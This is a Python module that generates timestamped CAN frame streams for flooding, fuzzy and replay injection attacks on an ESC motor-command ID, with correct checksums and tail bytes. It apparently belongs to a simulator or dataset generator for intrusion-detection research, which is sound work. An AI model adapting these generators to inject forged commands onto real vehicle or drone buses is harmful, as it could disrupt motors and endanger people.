"""The three scripted injection attacks: flooding, fuzzy, and replay.

Each generator is a pure function from its configuration (plus a recorded
tape for replay) to a timestamped frame list, so identical inputs give
byte-identical streams.  Flooding and fuzzy inject a two-frame command
transfer every `interval` seconds; replay re-emits a captured tape with its
original inter-frame spacing.

Tail-byte fidelity: the original attack scripts overwrite the whole tail
byte with a running counter, destroying the start/end/toggle flags after the
first injection.  REPLICA mode reproduces that byte-for-byte (counter
truncated to 8 bits); PROTOCOL mode emits well-formed tails with the
transfer ID wrapping at 32.
"""

from __future__ import annotations

import enum
import random
from dataclasses import dataclass, field

from .crc import transfer_crc
from .errors import EmptyTapeError
from .frame import CanFrame
from .transfer import RAW_COMMAND_SIGNATURE

#: CAN ID of the injected ESC command stream (priority 5, type 1030, node 1).
DEFAULT_TARGET_ID = 0x05040601

_SEED_MASK = (1 << 64) - 1
_SEED_STRIDE = 0x9E3779B97F4A7C15


def derive_seed(master: int, index: int) -> int:
    """Deterministic 64-bit child seed for the index-th consumer."""
    return (master ^ (_SEED_STRIDE * (index + 1))) & _SEED_MASK


class AttackKind(enum.Enum):
    FLOODING = "flooding"
    FUZZY = "fuzzy"
    REPLAY = "replay"


class Fidelity(enum.Enum):
    #: Byte-for-byte behavior of the original attack scripts (default).
    REPLICA = "replica"
    #: Protocol-legal tail bytes; every injected transfer reassembles cleanly.
    PROTOCOL = "protocol"


@dataclass(frozen=True)
class AttackConfig:
    kind: AttackKind
    start: float
    duration: float
    #: Idle time between injections, seconds.
    interval: float
    #: Fuzzy payload RNG seed; None means "derive from the scenario seed".
    seed: int | None = None
    fidelity: Fidelity = Fidelity.REPLICA
    target_id: int = DEFAULT_TARGET_ID
    signature: int = RAW_COMMAND_SIGNATURE

    def __post_init__(self):
        if not self.interval > 0:
            raise ValueError(f"interval must be > 0, got {self.interval}")
        if not self.duration > 0:
            raise ValueError(f"duration must be > 0, got {self.duration}")
        if self.start < 0:
            raise ValueError(f"start must be >= 0, got {self.start}")

    @property
    def end(self) -> float:
        return self.start + self.duration


@dataclass(frozen=True, slots=True)
class TapeEntry:
    timestamp: float
    data: bytes
    can_id: int


@dataclass(frozen=True)
class RecordedTape:
    """Pre-collected frames replayed by the replay attack."""

    entries: tuple[TapeEntry, ...] = field(default_factory=tuple)

    def __post_init__(self):
        object.__setattr__(self, "entries", tuple(self.entries))
        times = [e.timestamp for e in self.entries]
        if any(b < a for a, b in zip(times, times[1:])):
            raise ValueError("tape timestamps must be non-decreasing")

    def __len__(self) -> int:
        return len(self.entries)


def injection_count(duration: float, interval: float) -> int:
    """Number of injections k with k*interval strictly inside the window."""
    k = 0
    while k * interval < duration:
        k += 1
    return k


def _tail_pair(k: int, fidelity: Fidelity) -> tuple[int, int]:
    if fidelity is Fidelity.REPLICA:
        counter = k & 0xFF
        return counter, counter
    tid = k % 32
    return 0x80 | tid, 0x60 | tid


def _check_kind(cfg: AttackConfig, expected: AttackKind) -> None:
    if cfg.kind is not expected:
        raise ValueError(f"config is for {cfg.kind.value}, not {expected.value}")


def flooding_stream(cfg: AttackConfig) -> list[CanFrame]:
    """Constant two-frame command transfer repeated every interval.

    The payload is 11 zero bytes, so the first frame opens with the fixed
    checksum bytes A6 35 (for the default command signature) and five zeros.
    """
    _check_kind(cfg, AttackKind.FLOODING)
    crc = transfer_crc(cfg.signature, bytes(11))
    first_body = bytes([crc & 0xFF, crc >> 8, 0, 0, 0, 0, 0])
    second_body = bytes(6)

    frames = []
    k = 0
    while k * cfg.interval < cfg.duration:
        t = cfg.start + k * cfg.interval
        t1, t2 = _tail_pair(k, cfg.fidelity)
        frames.append(CanFrame(cfg.target_id, first_body + bytes([t1]), t))
        frames.append(CanFrame(cfg.target_id, second_body + bytes([t2]), t))
        k += 1
    return frames


def fuzzy_stream(cfg: AttackConfig) -> list[CanFrame]:
    """Random 11-byte command payloads with a freshly computed checksum.

    Bytes are drawn from random.Random (MT19937, portable across platforms)
    as uniform integers 0..255, five for the first frame then six for the
    second, so a seed pins the entire stream.
    """
    _check_kind(cfg, AttackKind.FUZZY)
    rng = random.Random(cfg.seed if cfg.seed is not None else 0)

    frames = []
    k = 0
    while k * cfg.interval < cfg.duration:
        t = cfg.start + k * cfg.interval
        head = bytes(rng.randint(0, 255) for _ in range(5))
        rest = bytes(rng.randint(0, 255) for _ in range(6))
        crc = transfer_crc(cfg.signature, head + rest)
        t1, t2 = _tail_pair(k, cfg.fidelity)
        frames.append(CanFrame(cfg.target_id, bytes([crc & 0xFF, crc >> 8]) + head + bytes([t1]), t))
        frames.append(CanFrame(cfg.target_id, rest + bytes([t2]), t))
        k += 1
    return frames


def replay_stream(tape: RecordedTape, cfg: AttackConfig) -> list[CanFrame]:
    """Re-emit a captured tape, preserving its inter-frame deltas.

    Frame j goes out at start + (tape[j].timestamp - tape[0].timestamp);
    emission stops at tape exhaustion or at the end of the attack window,
    whichever comes first.  Data bytes are copied verbatim under the
    configured target ID.
    """
    _check_kind(cfg, AttackKind.REPLAY)
    if len(tape) == 0:
        raise EmptyTapeError("replay requires a non-empty tape")
    base = tape.entries[0].timestamp
    frames = []
    for entry in tape.entries:
        delta = entry.timestamp - base
        if delta >= cfg.duration:
            break
        frames.append(CanFrame(cfg.target_id, entry.data, cfg.start + delta))
    return frames


def capture_tape(frames: list[CanFrame], id_filter: int) -> RecordedTape:
    """Record the frames matching one CAN ID, keeping timestamps and data."""
    return RecordedTape(
        tuple(
            TapeEntry(f.timestamp, f.data, f.can_id)
            for f in frames
            if f.can_id == id_filter
        )
    )


def attack_stream(cfg: AttackConfig, tape: RecordedTape | None = None) -> list[CanFrame]:
    """Dispatch to the generator for cfg.kind."""
    if cfg.kind is AttackKind.FLOODING:
        return flooding_stream(cfg)
    if cfg.kind is AttackKind.FUZZY:
        return fuzzy_stream(cfg)
    if tape is None:
        raise EmptyTapeError("replay requires a tape")
    return replay_stream(tape, cfg)
